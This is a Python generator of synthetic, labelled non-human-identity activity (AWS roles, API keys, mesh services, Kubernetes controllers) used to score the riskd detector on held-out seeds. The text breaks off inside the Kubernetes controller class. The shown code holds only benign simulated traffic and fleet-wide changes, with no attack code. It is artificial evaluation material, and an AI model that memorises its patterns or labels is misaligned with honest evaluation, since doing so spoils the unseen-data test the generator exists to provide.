#!/usr/bin/env python3
"""Independent labelled synthetic NHI fleet for riskd (stdlib only, deterministic from --seed).

Writes riskd-native NDJSON events (sorted by time) and a labels JSON
(generator indep/0.1) with identities, fleet-wide changes and attack windows, in the
shape `riskd eval --labels` reads.

Why a second generator: detection quality is judged on data the team has not seen, and
riskd's own generator (`riskd generate`) was written together with the detectors, so
it shares their assumptions. This one was written in session 4 by a separate author
from design.md, the seed text and the real logs in ../shared/data only, without reading
riskd's generator or detectors: 15 archetypes, heavy-tailed volumes, Stripe-style ids,
operators debugging from a VPN, KMS misconfigurations, Terraform one-offs, fleet-wide
releases, upgrades, incidents and surges, and eight attack kinds (some subtle).

Seeds 1-3 were looked at while tuning riskd in session 4, seed 4 while checking the
last two changes; seed 5 was first run after them. Treat a new seed as unseen, once.
Usage: scripts/independent_fleet.py --seed 6 --identities 500 --days 14 \
           --events events.ndjson --labels labels.json
then `riskd replay --format native --output signals.ndjson events.ndjson` and
`riskd eval --labels labels.json signals.ndjson`.
"""
import argparse
import json
import math
import random
import string
import time

DAY = 86_400_000
HOUR = 3_600_000
MIN = 60_000
FLEET_START_S = 1793577600  # 2026-11-02T00:00:00Z, a Monday

ACCTS = {"prod": "418273950216", "staging": "739104582263", "data": "204958371625"}
TEAMS = ["payments", "orders", "ledger", "search", "catalog", "identity", "notify", "fraud",
         "risk", "billing", "shipping", "inventory", "analytics", "growth", "mlplat", "support",
         "checkout", "pricing", "reco", "accounts", "kyc", "reporting", "media", "geo"]
B62 = string.ascii_letters + string.digits
HEX = "0123456789abcdef"
K8S_ALNUM = "bcdfghjklmnpqrstvwxz2456789"


def iso(ms):
    return time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(ms // 1000)) + ".%03dZ" % (ms % 1000)


def rstr(rng, alphabet, n):
    return "".join(rng.choice(alphabet) for _ in range(n))


def uuid(rng):
    h = "%032x" % rng.getrandbits(128)
    return "%s-%s-4%s-%s-%s" % (h[:8], h[8:12], h[13:16], h[16:20], h[20:])


def poisson(rng, lam):
    if lam <= 0:
        return 0
    if lam < 40:
        l, k, p = math.exp(-lam), 0, 1.0
        while True:
            p *= rng.random()
            if p <= l:
                return k
            k += 1
    return max(0, int(round(rng.gauss(lam, math.sqrt(lam)))))


def circ(h, c, w):
    d = min(abs(h - c), 24 - abs(h - c))
    return math.exp(-(d / w) ** 2)


def profile(kind, h, dow):
    wk = dow >= 5
    if kind == "flat":
        return 1.0
    if kind == "consumer":
        return (0.22 + 0.78 * circ(h, 19.5, 5.0)) * (1.1 if wk else 1.0)
    if kind == "business":
        return (0.05 + circ(h, 13.5, 3.2)) * (0.22 if wk else 1.0)
    if kind == "office":
        v = circ(h, 13.0, 2.8) if 8 <= h <= 19 else 0.004
        return v * (0.04 if wk else 1.0)
    if kind == "mild":
        return (0.75 + 0.25 * circ(h, 15, 5)) * (0.9 if wk else 1.0)
    raise ValueError(kind)


class Fleet:
    """Fleet-wide change times (ms from epoch)."""

    def __init__(self, days, rng):
        s = FLEET_START_S * 1000
        self.start, self.end = s, s + days * DAY
        d = lambda x: max(1, min(days - 1, int(days * x)))
        self.nat_t = s + d(0.3) * DAY + 6 * HOUR + rng.randint(0, 120) * MIN
        self.release_t = s + d(0.45) * DAY + 10 * HOUR + rng.randint(0, 60) * MIN
        self.sdk_t = s + d(0.6) * DAY + 9 * HOUR
        self.cluster_t = s + min(days - 1, d(0.6) + 1) * DAY + 3 * HOUR
        self.incident_t = s + d(0.75) * DAY + 14 * HOUR + rng.randint(0, 50) * MIN
        self.incident_len = rng.randint(10, 20) * MIN
        self.surge_day = d(0.9)
        self.nat_old = ["52.23.118.44", "3.218.77.10", "54.87.201.163"]
        self.nat_new = ["44.199.34.12", "18.214.90.205", "3.224.151.78"]
        self.changes = [
            ("nat_gateway_replacement", self.nat_t, self.nat_t + 30 * MIN,
             "prod VPC NAT gateways replaced: every identity egressing via NAT gets new public IPs"),
            ("release_new_routes", self.release_t, self.release_t + 3 * HOUR,
             "platform release: most mesh services call a new v2 route, copilots get a new tool, event workers a new table"),
            ("sdk_upgrade", self.sdk_t, self.sdk_t + 6 * HOUR,
             "base image rebuild: Boto3/botocore, aws-sdk-go-v2 and terraform provider versions bumped fleet-wide"),
            ("cluster_upgrade", self.cluster_t, self.cluster_t + 2 * HOUR,
             "EKS 1.29 -> 1.30 upgrade: controllers get new user agents and pod/node IPs change"),
            ("incident", self.incident_t, self.incident_t + self.incident_len,
             "apiserver/etcd brownout + DynamoDB throttling: controllers, mesh services, workers, shippers see errors and retries"),
            ("traffic_surge", s + self.surge_day * DAY, s + (self.surge_day + 1) * DAY,
             "sale day: payment partner keys x3, mesh/event workers x2.5, copilots x1.8"),
        ]

    def in_incident(self, t):
        return self.incident_t <= t < self.incident_t + self.incident_len

    def nat_ips(self, t):
        return self.nat_new if t >= self.nat_t else self.nat_old


class Gen:
    def __init__(self, seed, n, days):
        self.seed, self.n, self.days = seed, n, days
        self.rng = random.Random("indep-%d" % seed)
        self.fleet = Fleet(days, self.rng)
        self.buf = []
        self.seq = 0
        self.attack_spans = {}
        self.count = 0

    def emit(self, ident, t, action, dest, outcome=None, ip=None, net=None, ua=None,
             nbytes=None, records=None, attrs=None, atk=None):
        t = int(t)
        if t < ident.birth or t >= ident.death or t >= self.fleet.end or t < self.fleet.start:
            return
        rng = ident.rng
        ev = {"time": iso(t), "identity": ident.name, "action": action, "destination": dest}
        if ident.has_eid:
            ev["event_id"] = "%016x%08x" % (rng.getrandbits(64), rng.getrandbits(32))
        ev["identity_kind"] = ident.kind
        ev["environment"] = ident.env
        if ip:
            ev["source_ip"] = ip
        if net:
            ev["source_network"] = net
        if ua:
            ev["user_agent"] = ua
        if outcome and outcome != "success":
            ev["outcome"] = outcome
        elif ident.explicit_outcome:
            ev["outcome"] = "success"
        if nbytes is not None:
            ev["bytes"] = int(nbytes)
        if records is not None:
            ev["records"] = int(records)
        if attrs:
            ev["attributes"] = attrs
        self.seq += 1
        self.buf.append((t, self.seq, json.dumps(ev, separators=(",", ":"))))
        if ident.first is None or t < ident.first:
            ident.first = t
        if ident.last is None or t > ident.last:
            ident.last = t
        if atk is not None:
            sp = self.attack_spans.setdefault(atk, [t, t])
            sp[0], sp[1] = min(sp[0], t), max(sp[1], t)


# ---------------------------------------------------------------- identities

class Ident:
    arch = "?"
    kind = "service_account"
    prof = "flat"
    median = 100
    sigma = 1.0
    family = "aws"  # aws | k8s | api | agent | git

    def __init__(self, g, idx, name_hint):
        self.g, self.idx = g, idx
        self.rng = random.Random("indep-%d-id-%d" % (g.seed, idx))
        r = self.rng
        self.team = name_hint
        self.env = "prod" if r.random() < 0.8 else "staging"
        self.acct = ACCTS[self.env]
        self.tz = r.choice([-5, -5, -5, 0, 1, 1, -8])
        self.daily = min(self.median * math.exp(r.gauss(0, self.sigma)), 60000)
        self.has_eid = r.random() < 0.9
        self.explicit_outcome = r.random() < 0.4
        self.first = self.last = None
        self.birth, self.death = g.fleet.start, g.fleet.end
        self.growth = r.uniform(-0.01, 0.025)
        self.sdk_shift = g.fleet.sdk_t + r.randint(0, 6 * 60) * MIN if r.random() < 0.8 else \
            g.fleet.start + r.randint(1, g.days - 1) * DAY + r.randint(8 * 60, 18 * 60) * MIN
        self.oneoff = []  # (time, fn)
        self.setup()
        self.hour_w = [[profile(self.prof, (h + self.tz) % 24, (dow + (h + self.tz) // 24) % 7)
                        for h in range(24)] for dow in range(7)]
        m = sum(sum(x) for x in self.hour_w) / 168.0
        self.hour_w = [[w / m for w in row] for row in self.hour_w]

    def setup(self):
        pass

    def day_factor(self, d):
        return math.exp(self.rng.gauss(0, 0.12)) * (1 + self.growth) ** d

    def times(self, d, daily, surge=1.0):
        """Poisson event times over day d following the identity's profile."""
        base = self.g.fleet.start + d * DAY
        dow = d % 7
        row = self.hour_w[dow]
        out = []
        for h in range(24):
            lam = daily / 24.0 * row[h] * surge
            for _ in range(poisson(self.rng, lam)):
                out.append(base + h * HOUR + int(self.rng.random() * HOUR))
        return out

    def e(self, *a, **k):
        self.g.emit(self, *a, **k)

    def gen_day(self, d):
        raise NotImplementedError

    def alive_day(self, d):
        s = self.g.fleet.start + d * DAY
        return self.birth < s + DAY and self.death > s


def boto_ua(t, ident, env="", pyv="3.11.9"):
    v = ("1.35.36", "1.35.36") if t >= ident.sdk_shift else ("1.34.84", "1.34.84")
    return ("Boto3/%s md/Botocore#%s ua/2.0 os/linux#5.10.219-208.866.amzn2.x86_64 md/arch#x86_64 "
            "lang/python#%s md/pyimpl#CPython%s cfg/retry-mode#legacy Botocore/%s" % (v[0], v[1], pyv, env, v[1]))


def gov2_ua(t, ident, api):
    v = "1.32.2" if t >= ident.sdk_shift else "1.30.3"
    return "aws-sdk-go-v2/%s os/linux lang/go#1.22.5 md/GOOS#linux md/GOARCH#amd64 api/%s" % (v, api)


def priv_ip(rng, p16):
    return "%s.%d.%d" % (p16, rng.randint(0, 255), rng.randint(1, 254))


class AwsIdent(Ident):
    def role(self, name):
        return "arn:aws:iam::%s:role/%s" % (self.acct, name)

    def egress(self, t, private_ip):
        """Calls to AWS APIs: some identities go via VPC endpoints (private IP), others via NAT."""
        if self.via_nat:
            nat = self.g.fleet.nat_ips(t)
            return nat[self.nat_idx % len(nat)]
        return private_ip


class TfDeployer(AwsIdent):
    arch, kind, prof, median, sigma = "tf_deployer", "bot", "office", 4, 0.5
    SERVICES = [("ec2", ["DescribeVpcs", "DescribeSubnets", "DescribeSecurityGroups", "DescribeRouteTables", "DescribeNatGateways", "DescribeVpcAttribute", "DescribeLaunchTemplates", "DescribeInstances"]),
                ("iam", ["GetRole", "GetPolicy", "GetPolicyVersion", "ListAttachedRolePolicies", "ListRolePolicies", "GetRolePolicy"]),
                ("s3", ["GetBucketAcl", "GetBucketPolicy", "GetBucketVersioning", "GetBucketTagging", "GetLifecycleConfiguration", "GetEncryptionConfiguration"]),
                ("rds", ["DescribeDBInstances", "DescribeDBSubnetGroups", "ListTagsForResource"]),
                ("lambda", ["GetFunction", "ListVersionsByFunction", "GetPolicy"]),
                ("kms", ["DescribeKey", "GetKeyPolicy", "ListResourceTags"]),
                ("sqs", ["GetQueueAttributes", "ListQueueTags"]),
                ("logs", ["DescribeLogGroups", "ListTagsLogGroup"])]
    WRITES = [("ec2", "AuthorizeSecurityGroupIngress"), ("ec2", "CreateTags"), ("lambda", "UpdateFunctionCode"),
              ("lambda", "UpdateFunctionConfiguration"), ("iam", "PutRolePolicy"), ("s3", "PutBucketPolicy"),
              ("sqs", "SetQueueAttributes"), ("logs", "PutRetentionPolicy"), ("iam", "TagRole"), ("rds", "ModifyDBInstance")]

    def setup(self):
        r = self.rng
        self.name = self.role("tf-deployer-%s" % self.team)
        self.svcs = r.sample(self.SERVICES, r.randint(4, 8))
        self.writes = r.sample(self.WRITES, r.randint(3, 6))
        self.resources = ["%s-%s-%s" % (self.team, r.choice(["api", "worker", "db", "cache", "events", "web"]), r.choice(["a", "b", "main", "v2"])) for _ in range(r.randint(4, 14))]
        self.via_nat = r.random() < 0.3
        self.nat_idx = r.randint(0, 2)
        self.runner_net = r.choice(["gha-runners-prod", "gha-runners-large", "buildkite-prod-q"])
        self.tf = r.choice(["1.9.5", "1.9.8", "1.8.5"])

    def ua(self, t, api):
        pv = "5.72.1" if t >= self.sdk_shift else "5.64.0"
        return ("APN/1.0 HashiCorp/1.0 Terraform/%s (+https://www.terraform.io) terraform-provider-aws/%s "
                "(+https://registry.terraform.io/providers/hashicorp/aws) %s" % (self.tf, pv, gov2_ua(t, self, api)))

    def dest(self, svc, res):
        r = self.rng
        if svc == "s3":
            return "arn:aws:s3:::acme-%s-%s" % (self.env, res)
        if svc == "ec2":
            return "ec2.us-east-1.amazonaws.com"
        if svc == "iam":
            return self.role(res + "-role")
        if svc == "lambda":
            return "arn:aws:lambda:us-east-1:%s:function:%s" % (self.acct, res)
        if svc == "rds":
            return "arn:aws:rds:us-east-1:%s:db:%s" % (self.acct, res)
        if svc == "kms":
            return "arn:aws:kms:us-east-1:%s:key/%s" % (self.acct, uuid(random.Random(res)))
        if svc == "sqs":
            return "arn:aws:sqs:us-east-1:%s:%s" % (self.acct, res)
        if svc == "logs":
            return "arn:aws:logs:us-east-1:%s:log-group:/aws/lambda/%s" % (self.acct, res)
        return "%s.amazonaws.com" % svc

    def run(self, t0, r, extra=None):
        ip_priv = priv_ip(r, "10.40")
        ip = self.egress(t0, ip_priv)
        runid = str(r.randint(10**9, 10**10))
        attrs = {"session": "gha-%s" % runid, "pipeline_step": "plan"}
        t = t0
        for _ in range(r.randint(40, 250)):
            svc, acts = r.choice(self.svcs)
            t += r.expovariate(1 / 450.0)
            out = "error" if r.random() < 0.004 else None
            self.e(t, "%s:%s" % (svc, r.choice(acts)), self.dest(svc, r.choice(self.resources)), out, ip,
                   self.runner_net, self.ua(t, svc), attrs=attrs)
        if r.random() < 0.5:
            attrs = {"session": "gha-%s" % runid, "pipeline_step": "apply", "approval_id": "CHG-%d" % r.randint(10000, 99999)}
            t += r.randint(20, 300) * 1000
            for _ in range(r.randint(2, 25)):
                svc, act = r.choice(self.writes)
                t += r.expovariate(1 / 2500.0)
                out = "denied" if r.random() < 0.01 else None
                self.e(t, "%s:%s" % (svc, act), self.dest(svc, r.choice(self.resources)), out, ip, self.runner_net,
                       self.ua(t, svc), attrs=attrs)
        if extra:
            extra(t + 5000, ip, attrs)

    def gen_day(self, d):
        r = self.rng
        for t0 in sorted(self.times(d, self.daily * self.day_factor(d))):
            extra = None
            if r.random() < 0.02:  # benign one-off: first-time managed resource type
                svc, act = r.choice([("es", "CreateDomain"), ("elasticache", "CreateReplicationGroup"),
                                     ("ec2", "CreateVpcEndpoint"), ("wafv2", "CreateWebACL"), ("sns", "CreateTopic")])
                res = r.choice(self.resources)
                extra = lambda t, ip, a, svc=svc, act=act, res=res: self.e(
                    t, "%s:%s" % (svc, act), "arn:aws:%s:us-east-1:%s:%s" % (svc, self.acct, res), None, ip,
                    self.runner_net, self.ua(t, svc), attrs=a)
                if r.random() < 0.5:
                    self.resources.append("%s-%s" % (self.team, rstr(r, "abcdefghijklmnop", 6)))
            self.run(t0, r, extra)


class CronEtl(AwsIdent):
    arch, kind, prof, median, sigma = "cron_etl", "service_account", "flat", 1, 0.0

    def setup(self):
        r = self.rng
        self.job = "%s-%s" % (self.team, r.choice(["orders-daily", "ledger-rollup", "events-compact", "dim-sync", "fx-rates", "settlements", "cohorts", "sessions-agg"]))
        self.name = self.role("etl-%s" % self.job)
        self.hourly = r.random() < 0.3
        self.minute = r.choice([0, 5, 7, 15, 17, 30, 45, 52])
        self.hour = r.choice([1, 2, 3, 4, 5, 6, 23, 0, 7])
        self.src = "acme-%s-raw-%s" % (self.env, self.team)
        self.dst = ["acme-%s-curated-%s" % (self.env, self.team)]
        self.table = r.choice(["orders", "payments", "events", "sessions", "refunds", "customers", "invoices"])
        self.files = max(3, int(math.exp(r.gauss(math.log(40 if not self.hourly else 8), 0.9))))
        self.fsize = math.exp(r.gauss(math.log(30e6), 1.0))
        self.via_nat = r.random() < 0.5
        self.nat_idx = r.randint(0, 2)
        self.new_bucket_day = r.randint(2, self.g.days - 1) if r.random() < 0.2 else None
        self.backfill_day = r.randint(3, self.g.days - 1) if r.random() < 0.08 else None

    def run(self, t0, dt, r, nfiles=None, atk=None, ip=None, ua=None, dst=None):
        ip = ip or self.egress(t0, priv_ip(r, "10.12"))
        ua = ua or boto_ua(t0, self, " exec-env/AWS_ECS_FARGATE")
        attrs = {"session": "ecs-task-%s" % rstr(r, HEX, 32)}
        part = "%s/dt=%s" % (self.table, dt)
        t = t0
        self.e(t, "s3:ListObjectsV2", "arn:aws:s3:::%s/%s/" % (self.src, part), None, ip, None, ua, records=nfiles or self.files, attrs=attrs, atk=atk)
        n = nfiles or max(1, int(self.files * math.exp(r.gauss(0, 0.25))))
        for i in range(n):
            t += r.expovariate(1 / 900.0)
            self.e(t, "s3:GetObject", "arn:aws:s3:::%s/%s/part-%05d-%s.snappy.parquet" % (self.src, part, i, uuid(r)),
                   "error" if r.random() < 0.002 else None, ip, None, ua, nbytes=self.fsize * r.uniform(0.5, 1.5), attrs=attrs, atk=atk)
        t += r.randint(5, 60) * 1000
        self.e(t, "athena:StartQueryExecution", "arn:aws:athena:us-east-1:%s:workgroup/etl" % self.acct, None, ip, None, ua, attrs=attrs, atk=atk)
        for _ in range(r.randint(2, 8)):
            t += r.randint(2, 10) * 1000
            self.e(t, "athena:GetQueryExecution", "arn:aws:athena:us-east-1:%s:workgroup/etl" % self.acct, None, ip, None, ua, attrs=attrs, atk=atk)
        d = dst or (self.dst[-1] if r.random() < 0.9 else self.dst[0])
        for i in range(r.randint(1, 4)):
            t += r.randint(1, 20) * 1000
            self.e(t, "s3:PutObject", "arn:aws:s3:::%s/%s_agg/dt=%s/part-%05d.parquet" % (d, self.table, dt, i), None, ip, None, ua,
                   nbytes=self.fsize * r.uniform(0.05, 0.3), attrs=attrs, atk=atk)
        t += 2000
        self.e(t, "glue:BatchCreatePartition", "arn:aws:glue:us-east-1:%s:table/curated/%s_agg" % (self.acct, self.table), None, ip, None, ua, attrs=attrs, atk=atk)
        return t

    def gen_day(self, d):
        r = self.rng
        base = self.g.fleet.start + d * DAY
        if self.new_bucket_day == d:
            self.dst.append("acme-%s-curated-%s-v2" % (self.env, self.team))
        hours = range(24) if self.hourly else [self.hour]
        for h in hours:
            t0 = base + h * HOUR + self.minute * MIN + r.randint(0, 40000)
            if r.random() < 0.03:
                t0 += r.randint(1, 25) * MIN  # scheduler delay
            dt = time.strftime("%Y-%m-%d", time.gmtime((base - (0 if self.hourly else DAY)) // 1000))
            if self.hourly:
                dt += "/hr=%02d" % h
            self.run(t0, dt, r)
        if self.backfill_day == d:  # operator re-runs the last week during working hours
            t0 = base + (14 - self.tz) % 24 * HOUR + r.randint(0, 59) * MIN
            for k in range(1, 8):
                dt = time.strftime("%Y-%m-%d", time.gmtime((base - k * DAY) // 1000))
                t0 = self.run(t0 + 30000, dt, r)


class EventWorker(AwsIdent):
    arch, kind, prof, median, sigma = "event_worker", "workload", "consumer", 400, 1.3

    def setup(self):
        r = self.rng
        self.svc = "%s-%s" % (self.team, r.choice(["consumer", "processor", "fanout", "enricher", "webhook-relay"]))
        self.name = self.role("%s-lambda" % self.svc)
        self.queue = "arn:aws:sqs:us-east-1:%s:%s-events" % (self.acct, self.team)
        self.tables = ["arn:aws:dynamodb:us-east-1:%s:table/%s-%s" % (self.acct, self.team, x) for x in r.sample(["state", "idempotency", "outbox", "orders", "profiles"], r.randint(1, 3))]
        self.bucket = "acme-%s-%s-payloads" % (self.env, self.team)
        self.in_vpc = r.random() < 0.5
        self.pyv = r.choice(["3.12", "3.11"])
        self.release_table = r.random() < 0.6
        self.ip = None
        self.new_ip_every = r.choice([0.002, 0.01, 0.05])

    def source_ip(self, t):
        r = self.rng
        if self.in_vpc:
            return self.g.fleet.nat_ips(t)[self.idx % 3]
        if self.ip is None or r.random() < self.new_ip_every:  # cold start → fresh public AWS IP
            self.ip = "%d.%d.%d.%d" % (r.choice([3, 3, 18, 34, 44, 52, 54]), r.randint(0, 255), r.randint(0, 255), r.randint(1, 254))
        return self.ip

    def gen_day(self, d):
        r, f = self.rng, self.g.fleet
        surge = 2.5 if d == f.surge_day else 1.0
        for t in sorted(self.times(d, self.daily * self.day_factor(d), surge)):
            ip = self.source_ip(t)
            ua = boto_ua(t, self, " exec-env/AWS_Lambda_python%s" % self.pyv, self.pyv + ".7")
            inc = f.in_incident(t)
            x = r.random()
            tables = self.tables + (["arn:aws:dynamodb:us-east-1:%s:table/%s-audit" % (self.acct, self.team)] if self.release_table and t >= f.release_t else [])
            if x < 0.3:
                self.e(t, "sqs:ReceiveMessage", self.queue, None, ip, None, ua, records=r.randint(1, 10))
            elif x < 0.5:
                self.e(t, "sqs:DeleteMessage", self.queue, None, ip, None, ua)
            elif x < 0.9:
                out = "error" if (inc and r.random() < 0.5) or r.random() < 0.002 else None
                self.e(t, "dynamodb:" + r.choice(["GetItem", "GetItem", "PutItem", "UpdateItem", "Query"]), r.choice(tables), out, ip, None, ua,
                       records=1)
                if out and inc:
                    for k in range(r.randint(1, 3)):
                        self.e(t + 100 * 2 ** k, "dynamodb:PutItem", r.choice(tables), "error" if r.random() < 0.5 else None, ip, None, ua)
            elif x < 0.97:
                self.e(t, "s3:GetObject", "arn:aws:s3:::%s/%s/%s.json" % (self.bucket, time.strftime("%Y/%m/%d", time.gmtime(t // 1000)), uuid(r)),
                       None, ip, None, ua, nbytes=r.randint(800, 90000))
            else:
                self.e(t, "kms:Decrypt", "arn:aws:kms:us-east-1:%s:key/%s" % (self.acct, uuid(random.Random(self.team))), None, ip, None, ua)


class PartnerKey(Ident):
    arch, kind, prof, median, sigma, family = "partner_api_key", "api_key", "business", 200, 1.4, "api"
    ROUTES = [("GET /v1/orders/{id}", "orders", "ord"), ("POST /v1/payments", "payments", None), ("GET /v1/payments/{id}", "payments", "pay"),
              ("POST /v1/refunds", "refunds", None), ("GET /v1/customers/{id}", "customers", "cus"), ("GET /v1/orders", "orders", None),
              ("POST /v1/payment_intents/{id}/confirm", "payment_intents", "pi"), ("GET /v1/balance", "balance", None),
              ("GET /v1/shipments/{id}", "shipments", "shp"), ("POST /v1/webhooks/ack", "webhooks", None)]

    def setup(self):
        r = self.rng
        self.partner = r.choice(["shopwave", "tixly", "fleetco", "paynorth", "marketly", "bookr", "gigsy", "travelo", "cartpro", "medisend", "quickbite", "rentals24"]) + str(r.randint(1, 99))
        self.name = "ak_live_" + rstr(r, B62, 24)
        self.routes = r.sample(self.ROUTES, r.randint(2, 6))
        self.w = [r.random() ** 2 + 0.05 for _ in self.routes]
        p24 = "%d.%d.%d" % (r.choice([34, 35, 104, 146, 185, 194, 203, 212, 81]), r.randint(0, 255), r.randint(0, 255))
        self.ips = ["%s.%d" % (p24, r.randint(2, 250)) for _ in range(r.randint(1, 4))]
        self.ua0 = r.choice(["okhttp/4.12.0", "python-requests/2.31.0", "axios/1.6.8", "Go-http-client/2.0", "Java/17.0.10", "PHP/8.2 GuzzleHttp/7.8.1", "acme-node/4.3.0 node/20.11.1"])
        self.ua1 = self.ua0.replace("4.12.0", "4.12.1").replace("2.31.0", "2.32.3").replace("1.6.8", "1.7.2").replace("4.3.0", "5.0.1")
        self.upgrade_t = self.g.fleet.start + r.randint(2, 2 * self.g.days) * DAY
        self.ipchange_t = self.g.fleet.start + r.randint(2, 3 * self.g.days) * DAY
        self.surge = 3.0 if r.random() < 0.7 else 1.3
        # partner moves part of its traffic to a new cloud egress at some point (often after the fleet ends)
        self.ips2 = self.ips[:1] + ["%d.%d.%d.%d" % (r.choice([3, 13, 20, 34]), r.randint(0, 255), r.randint(0, 255), r.randint(1, 254))]
        self.host = "api.acme-pay.com"

    def gen_day(self, d):
        r, f = self.rng, self.g.fleet
        surge = self.surge if d == f.surge_day else 1.0
        for t in sorted(self.times(d, self.daily * self.day_factor(d), surge)):
            route, coll, pfx = r.choices(self.routes, self.w)[0]
            ip = r.choice(self.ips if t < self.ipchange_t else self.ips2)
            ua = self.ua1 if t >= self.upgrade_t else self.ua0
            path = route.split(" ", 1)[1]
            if pfx:
                path = path.replace("{id}", "%s_%s" % (pfx, rstr(r, B62, 14)))
            q = r.random()
            out = "error" if q < 0.006 else ("denied" if q < 0.007 else None)
            if d == f.surge_day and r.random() < 0.01:
                out = "error"  # 429s
            recs = r.randint(1, 100) if route.endswith("/orders") else 1
            self.e(t, route, self.host + path, out, ip, None, ua, nbytes=r.randint(300, 4000) * recs, records=recs,
                   attrs={"partner": self.partner})


class LegacyKey(PartnerKey):
    arch, kind, prof, median, sigma = "legacy_report_key", "api_key", "business", 4, 0.6

    def setup(self):
        super().setup()
        r = self.rng
        self.routes = [("GET /v1/reports/settlements", "reports", None), ("GET /v1/reports/{id}/download", "reports", "rpt")]
        self.w = [1, 1]
        self.ua0 = self.ua1 = "Apache-HttpClient/4.5.13 (Java/1.8.0_392)"
        self.ips = self.ips[:1]
        self.surge = 1.0


class MeshService(Ident):
    arch, kind, prof, median, sigma, family = "mesh_service", "workload", "consumer", 500, 1.2, "api"
    UP = [("users", "GET /v1/users/{id}", "usr"), ("inventory", "GET /v1/items/{id}", "sku"), ("pricing", "POST /v1/quotes", None),
          ("payments", "POST /v1/payments/authorize", None), ("orders", "GET /v1/orders/{id}", "ord"), ("ledger", "POST /v1/entries", None),
          ("notify", "POST /v1/notifications", None), ("search", "GET /v1/search", None), ("fraud", "POST /v1/score", None),
          ("geo", "GET /v1/places/{id}", "plc"), ("catalog", "GET /v1/products/{id}", "prd"), ("accounts", "GET /v1/accounts/{id}/limits", "acc")]

    def setup(self):
        r = self.rng
        self.svc = "%s-%s" % (self.team, r.choice(["api", "worker", "gateway", "bff", "svc", "sync"]))
        self.name = "spiffe://prod.acme.internal/ns/%s/sa/%s" % (self.team, self.svc)
        self.env = "prod"
        self.ups = r.sample(self.UP, r.randint(2, 6))
        self.w = [r.random() + 0.1 for _ in self.ups]
        self.new_route = r.random() < 0.7
        self.ua = r.choice(["envoy/1.29.4", "grpc-go/1.64.0", "okhttp/4.12.0", "Go-http-client/1.1"])
        self.pod_hash = rstr(r, K8S_ALNUM, 10)
        self.ip = priv_ip(r, "10.244")
        self.net = "eks-prod-use1"

    def gen_day(self, d):
        r, f = self.rng, self.g.fleet
        surge = 2.5 if d == f.surge_day else 1.0
        deploys = sorted(self.g.fleet.start + d * DAY + r.randint(9, 18) * HOUR for _ in range(poisson(r, 0.8 if d % 7 < 5 else 0.05)))
        for t in sorted(self.times(d, self.daily * self.day_factor(d), surge)):
            while deploys and t >= deploys[0]:
                deploys.pop(0)
                self.pod_hash = rstr(r, K8S_ALNUM, 10)
            if r.random() < 0.003 or (t >= f.cluster_t and self.ip.startswith("10.244")):
                self.ip = priv_ip(r, "10.245" if t >= f.cluster_t else "10.244")
            ups = self.ups
            if self.new_route and t >= f.release_t:
                ups = ups + [("checkout", "POST /v2/checkout/sessions", None)]
            up, route, pfx = r.choices(ups, self.w + ([2.0] if len(ups) > len(self.ups) else []))[0]
            path = route.split(" ", 1)[1]
            if pfx:
                path = path.replace("{id}", "%s_%d" % (pfx, r.randint(1, 5_000_000)))
            out = None
            if f.in_incident(t) and r.random() < 0.35:
                out = "error"
            elif r.random() < 0.002:
                out = "error"
            self.e(t, route, "%s.%s.svc.cluster.local%s" % (up, up, path), out, self.ip, self.net, self.ua,
                   nbytes=r.randint(200, 20000), attrs={"pod": "%s-%s-%s" % (self.svc, self.pod_hash, rstr(r, K8S_ALNUM, 5))} if r.random() < 0.3 else None)


class K8sController(Ident):
    arch, kind, prof, median, sigma, family = "k8s_controller", "workload", "mild", 600, 1.2, "k8s"
    CTRLS = [("kube-system", "replicaset-controller", "kube-controller-manager"), ("kube-system", "deployment-controller", "kube-controller-manager"),
             ("kube-system", "endpointslice-controller", "kube-controller-manager"), ("kube-system", "generic-garbage-collector", "kube-controller-manager"),
             ("kube-system", "namespace-controller", "kube-controller-manager"), ("kube-system", "job-controller", "kube-controller-manager"),
             ("cert-manager", "cert-manager", "cert-manager-controller"), ("cert-manager", "cert-manager-cainjector", "cainjector"),
             ("argocd", "argocd-application-controller", "argocd-application-controller"), ("kube-system", "aws-load-balancer-controller", "aws-load-balancer-controller"),
             ("kube-system", "cluster-autoscaler", "cluster-autoscaler"), ("gatekeeper-system", "gatekeeper-admin", "gatekeeper"),
             ("monitoring", "kube-state-metrics", "kube-state-metrics"), ("keda", "keda-operator", "keda"), ("external-dns", "external-dns", "external-dns"),
             ("karpenter", "karpenter", "karpenter"), ("istio-system", "istiod", "pilot-discovery"), ("velero", "velero", "velero")]
    RES = ["pods", "replicasets", "deployments", "endpointslices", "configmaps", "services", "events", "leases", "jobs", "nodes", "secrets", "ingresses", "certificates"]

    def setup(self):
        r = self.rng
        ns, sa, comp = r.choice(self.CTRLS)
        self.cluster = r.choice(["prod-use1", "prod-euw1", "staging-use1", "prod-usw2", "data-use1"])
        self.env = "staging" if "staging" in self.cluster else "prod"
        self.ns = ns
        self.sa = sa
        self.name = ("" if self.idx % 3 == 0 else "%s/" % self.cluster) + "system:serviceaccount:%s:%s" % (ns, sa)
        self.comp = comp
        self.res = r.sample(self.RES, r.randint(3, 7))
        if "leases" not in self.res:
            self.res.append("leases")
        self.verbs = {x: r.sample(["get", "list", "watch", "update", "patch", "create", "delete"], r.randint(2, 4)) for x in self.res}
        self.nss = r.sample(TEAMS, r.randint(3, 15)) + ["kube-system"]
        self.apps = {n: ["%s-%s" % (n, r.choice(["api", "worker", "web", "cron", "db-proxy"])) for _ in range(r.randint(1, 4))] for n in self.nss}
        self.hash = {a: rstr(r, K8S_ALNUM, 10) for apps in self.apps.values() for a in apps}
        self.ip = priv_ip(r, "10.244")
        self.ver = r.choice(["v1.29.6", "v1.29.8"])

    def ua(self, t):
        v = "v1.30.4" if t >= self.g.fleet.cluster_t else self.ver
        if self.comp == "kube-controller-manager":
            return "kube-controller-manager/%s (linux/amd64) kubernetes/%s/system:serviceaccount:%s" % (v, "a7f6b2c" if v == "v1.30.4" else "9e3b1c0", self.sa)
        return "%s/%s (linux/amd64) kubernetes/$Format" % (self.comp, "v0.0.0" if t < self.sdk_shift else "v0.0.1")

    def gen_day(self, d):
        r, f = self.rng, self.g.fleet
        for t in sorted(self.times(d, self.daily * self.day_factor(d))):
            if r.random() < 0.0005 or (t >= f.cluster_t and self.ip.startswith("10.244")):
                self.ip = priv_ip(r, "10.245" if t >= f.cluster_t else "10.244")
            if r.random() < 0.0008:  # rollout
                a = r.choice(list(self.hash))
                self.hash[a] = rstr(r, K8S_ALNUM, 10)
            res = r.choice(self.res)
